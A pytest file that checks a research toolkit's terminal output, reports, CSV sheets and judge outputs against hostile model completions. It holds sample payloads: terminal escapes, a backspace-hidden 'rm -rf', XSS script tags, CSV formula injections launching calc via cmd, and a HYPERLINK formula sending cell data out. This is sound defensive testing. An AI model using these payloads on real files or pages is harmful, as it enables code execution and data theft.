"""Completions that would act on whoever looks at them: neutral on the terminal, in the reports, in sheets, in a judge's hands."""

import base64
import csv
import gzip
import io
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import xarray as xr
from rich.console import Console

from experiments.study import command as study_command
from experiments.study import report
from experiments.study.page import markup
from experiments.study.page.data import _answer, _context
from experiments.study.page.write import island
from experiments.study.progress import StepDisplay
from experiments.study.results import Results
from experiments.study.trait import BASE, Context
from mechkit.agreement import tables as agreement_tables
from mechkit.chat import Chat
from mechkit.cli import main
from mechkit.commands import shared
from mechkit.errors import MechkitError
from mechkit.foreign import for_sheet, visible
from mechkit.generate import Generation
from mechkit.judges import JUDGES, create
from mechkit.judging.rows import Context as Asked
from mechkit.tables import MOST_CHARACTERS, Table
from probes import screening
from probes.commands.completions import UNALTERED, CompletionFile, first_answers
from tests.made_results import made

TEXTS = {
    "an escape sequence that clears the screen": "\x1b[2J\x1b[H\x1b]0;title\x07done",
    "a link of the terminal": "\x1b]8;;https://example.com\x1b\\text\x1b]8;;\x1b\\",
    "one-byte controls": "\x9b31m red \x90q\x9c \x85",
    "back over what stood there": "harmless\x08\x08\x08\x08\x08\x08\x08\x08rm -rf\r hidden",
    "a script": "<script>window.hacked = 1</script><img src=x onerror=alert(1)><!-- <svg/onload=x>",
    "an end of what holds it": "</td></tr></table></pre></script>```\n\n# Heading\n\n| a | b |",
    "a link and a picture of elsewhere": "[here](javascript:alert(1)) ![p](https://example.com/p.png) [x](//example.com)",
    "a formula": '=HYPERLINK("https://example.com/?"&A1,"x")',
    "a sum": "+1+cmd|' /C calc'!A0",
    "a difference": "-2+3+cmd|' /C calc'!A0",
    "a function of old": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab before a formula": "\t=1+1",
    "a carriage return before a formula": "\r=1+1",
    "a line end before a formula": "\n=1+1",
    "a wide equals sign": "＝1+1",
    "one line of ten megabytes": "x" * 10_000_000,
    "ten megabytes of line ends": "\n" * 10_000_000,
    "right to left": "\u200fif admin:\u202e } \u2066# check\u2069\u2066 begin\u202c",
    "half a surrogate pair": "a\ud800b\udfffc",
    "nothing but zeros": "\x00" * 50,
    "markup of the console": "[bold red]x[/bold red] [/] [link=https://example.com]y[/link]",
    "a separator of lines": "one\u2028two\u2029three\x0bfour\x0cfive",
}
"""What it does → the text."""
csv.field_size_limit(20_000_000)
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
"""What acts on a terminal or turns the text around it; tabs and line ends are each place's own."""
EVERY = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())


def harmless(shown: str, keep: str = "\n\t") -> None:
    assert not [c for c in set(ACTS.findall(shown)) if c not in keep]
    shown.encode("utf-8")


@EVERY
def test_in_a_cell_of_a_table_it_is_one_cell(text):
    table = Table(
        "t", "Title", "How to read.", [{"who": "a", "what": text, "n": 1.0}, {"who": "b", "what": "end", "n": 2.0}]
    )
    shown = table.markdown()
    harmless(shown, "\n")
    lines = shown.splitlines()
    rows = [line for line in lines if line.startswith("|")]
    assert len(rows) == 4
    assert {len(re.split(r"(?<!\\)\|", row)) for row in rows} == {5}
    assert not re.search(r"<[A-Za-z/!?]", shown)
    assert not re.search(r"\]\((?![\w./-]+\))", shown)
    assert len(shown) < 5 * MOST_CHARACTERS * 4


@EVERY
def test_beside_a_table_it_is_a_sentence(text):
    shown = Table("t", text, text, [{text: 1.0}], text).markdown()
    harmless(shown, "\n")
    assert not re.search(r"<[A-Za-z/!?]|\]\((?!\w[\w./-]*\))", shown)
    assert len([line for line in shown.splitlines() if line.startswith("#")]) == 1


@EVERY
def test_in_a_sheet_it_is_no_formula(text):
    held = Table("t", "T", "r", [{"who": text, text[:50]: "x", "n": -1.5}]).csv()
    harmless(held, "\n\t")
    head, row = csv.reader(io.StringIO(held, newline=""))
    for cell in (*head, *row[:2]):
        assert not cell.startswith(tuple("=+-@\t\r\n＝＋－＠")), cell[:20]
    assert row[-1] == "-1.5", "a number stays a number"
    assert visible(text, "\t\n") in row[0]


def test_texts_that_begin_like_any_text_stay_as_they_are():
    for text in ("", "Neutral", "a = b", "x-1", "5 % − 3 %", "−3", "'quoted'", "ünïcode 🙂"):
        assert for_sheet(text) == text
        assert visible(text) == text


@pytest.mark.parametrize("name", ["=cmd", "+a", "-b", "@c", "\u202eabc"])
def test_measured_values_are_no_formulas_where_a_file_or_a_condition_has_such_a_name(tmp_path, name):
    from probes.commands.measure import _write

    coords = {"condition": [name], "example": [f"{name}.jsonl:1"], "site": ["resid_post.0"], "direction": [name]}
    data = xr.Dataset(
        {"projection": (("condition", "example", "site", "direction"), np.full((1, 1, 1, 1), -2.0))}, coords
    )
    _write(data, tmp_path / "x.csv")
    (row,) = csv.DictReader((tmp_path / "x.csv").open(encoding="utf-8"))
    assert all(row[column][0] not in "=+-@\u202e" for column in ("condition", "example", "direction"))
    assert float(row["value"]) == -2.0


# The terminal


@EVERY
def test_steered_answers_on_the_terminal(text, tmp_path):
    file = CompletionFile(tmp_path / "s.jsonl", fresh=True)
    context = Asked("1", Chat.ask(text))
    file.add(UNALTERED, None, [(0, context, Generation((1,), text, True))])
    shown = first_answers(file, [UNALTERED], context)
    harmless(shown, "\n")
    assert len(shown.splitlines()) == 2
    assert len(shown) < 300
    assert CompletionFile(tmp_path / "s.jsonl", fresh=False).of(UNALTERED, 1)[0]["messages"][-1]["content"] == text


@EVERY
def test_ranked_rows_on_the_terminal(text, tmp_path, capsys):
    path = tmp_path / "[bold]x[red].jsonl"
    row = {"messages": [{"role": "user", "content": visible(text) + "?"}, {"role": "assistant", "content": text + "."}]}
    path.write_text(json.dumps(row) + "\n")
    data = xr.Dataset(
        {"projection": ("example", [1.0], {"site": "s", "long_name": "l", "units": "u", "sign": "+"})},
        {"example": ["a"]},
    )
    ranking = pd.DataFrame({"line": [1], "projection": [1.0], "projection_rank": [1.0]})
    if "\ud800" in text:
        with pytest.raises(MechkitError, match="half a surrogate pair"):
            screening.show(path, data, ranking, ["projection"], 3, [], tmp_path / "out.csv")
        return
    screening.show(path, data, ranking, ["projection"], 3, [], tmp_path / "out.csv")
    shown = capsys.readouterr().out
    harmless(shown, "\n")
    assert "[bold]x[red].jsonl" in shown
    assert len(shown) < 3000


@EVERY
def test_errors_remarks_and_json_on_the_terminal(text, capsys, monkeypatch):
    shared.say(text[:1000])
    shared.print_json(answers=[text], tables={text[:100]: None})
    found = capsys.readouterr()
    harmless(found.out, "\n")
    harmless(found.err, "\n\t")
    assert json.loads(found.out)["answers"] == [text]

    def fails(arguments):
        raise MechkitError(f"{text[:1000]} is wrong.")

    class Point:
        name, load = "doctor", staticmethod(lambda: fails)

    monkeypatch.setattr("mechkit.cli.entry_points", lambda group: [Point])
    assert main(["doctor"]) == 1
    harmless(capsys.readouterr().err, "\n\t")


@EVERY
def test_steps_and_the_summary_of_a_study_on_the_terminal(text, capsys):
    console = Console(file=io.StringIO(), width=200, force_terminal=False, highlight=False)
    display = StepDisplay(3, console=console)
    with display.step(text[:500]):
        pass
    display.found(text[:500])
    display.elsewhere(text[:500], 1.0)
    harmless(console.file.getvalue(), "\n\t")
    results = made({"Neutral": 20.0}, seeds=1)
    odd = replace(results, trait=replace(results.trait, title=text[:500], having=text[:40]))
    study_command._summary(odd, report.Pack(Path("r.md"), [text[:500]], Path("r.html")), 1.0)
    harmless(capsys.readouterr().out, "\n\t")


# The reports


def in_answers(results: Results) -> Results:
    """Results in which every text is an answer, a context, a cluster and a judge's reason somewhere."""
    rows, texts = {label: [dict(r) for r in of] for label, of in results.ratings["ood"].items()}, list(TEXTS.values())
    contexts = list(results.data.contexts)
    for i, text in enumerate(texts):
        short = text[:100_000]
        contexts[i] = Context(Chat.ask(short, id=short[:40]), cluster=short[:40] or "c")
        for label in rows:
            finding = {"rule": short[:60], "cwe": 1, "line": 1, "snippet": short[:60], "severity": 90}
            rows[label][i] |= {"completion": short, "findings": [finding]}
        rows[BASE][i] |= {"rating": None, "score": None, "judge_status": "refused", "judge_reason": short[:80]}
    data = replace(results.data, contexts=tuple(contexts), notes=tuple(text[:200] for text in texts))
    trait = replace(results.trait, title=TEXTS["a script"] + TEXTS["right to left"])
    return replace(results, trait=trait, data=data, ratings={"ood": rows})


def test_a_report_holds_all_of_them_and_does_nothing():
    results = in_answers(made({"Neutral": 20.0}, seeds=1))
    said = report._missing(results)
    assert any("window.hacked" in sentence for sentence in said)
    shown = "\n".join(map(report._line, [*said, results.trait.title]))
    harmless(shown, "\n")
    assert not re.search(r"<[A-Za-z/!?]|\]\(", shown)
    assert len(shown.splitlines()) == len(said) + 1
    page = markup.paragraphs(said) + markup.inline(results.trait.title)
    harmless(page, "\n\r\t")
    assert set(re.findall(r"</?([a-z]+)", page)) <= {"ul", "li", "em", "strong", "code", "a"}
    assert 'href="java' not in page
    assert 'href="http' not in page


@EVERY
def test_in_the_pages_data_it_is_as_long_and_turns_nothing(text):
    results = in_answers(made({"Neutral": 20.0}, seeds=1))
    i = list(TEXTS.values()).index(text)
    answer, context = _answer(results.ratings["ood"]["Neutral"][i]), _context(results, i)
    short = text[:100_000]
    assert len(answer["text"]) == len(context["prompt"]) == len(short)
    for told in (
        answer["text"],
        context["prompt"],
        context["id"],
        context["cluster"],
        _answer(results.ratings["ood"][BASE][i])["reason"],
    ):
        harmless(told, "\n\r\t")
    packed = island("data", json.dumps([answer, context]))
    inside = re.fullmatch(r'<script type="text/plain" id="island-data">([A-Za-z0-9+/=]*)</script>', packed)
    assert json.loads(gzip.decompress(base64.b64decode(inside[1])))[0] == answer


@EVERY
def test_in_the_pages_tables_it_is_text(text):
    shown = markup.table(Table("t", text[:1000], text[:1000], [{"x": text[:1000]}], text[:1000]))
    harmless(shown, "\n\r\t")
    allowed = {
        "section",
        "h",
        "div",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "p",
        "em",
        "strong",
        "code",
        "a",
        "details",
        "summary",
    }
    assert set(re.findall(r"</?([a-z]+)", shown)) <= allowed


# Judges


@EVERY
@pytest.mark.parametrize("judge", ["static", "language", "pattern"])
def test_a_judge_gives_it_a_rating_or_a_reason_that_does_nothing(text, judge):
    settings: dict[str, Any] = {"language": {"language": "es"}, "pattern": {"pattern": "arrr"}}.get(judge, {})
    assert judge in JUDGES
    for rating in create(judge, **settings).rate(["p", text[:1000]], [text, "x = 1 # " + text[:1000]]):
        assert (rating.value is None) == (rating.status != "ok")
        assert rating.reason
        harmless(rating.reason, "")
        assert len(rating.reason) < 500


def test_tables_of_agreement_hold_names_of_judges_as_names(tmp_path):
    from mechkit.agreement.ratings import read_ratings

    path = tmp_path / "rated.jsonl"
    names = [text[:40] for text in TEXTS.values() if text[:40].strip("\x00 \n")]
    rows = [
        {"line": i, "hash": "h", "ratings": {n: {"value": (7 * i) % 100, "status": "ok"} for n in names}}
        for i in range(6)
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    table = agreement_tables.judges_table(read_ratings(path))
    harmless(table.markdown(), "\n")
    harmless(table.csv(), "\n\t")
    for cell in next(zip(*csv.reader(io.StringIO(table.csv(), newline="")))):
        assert not cell.startswith(tuple("=+-@\t\r\n"))
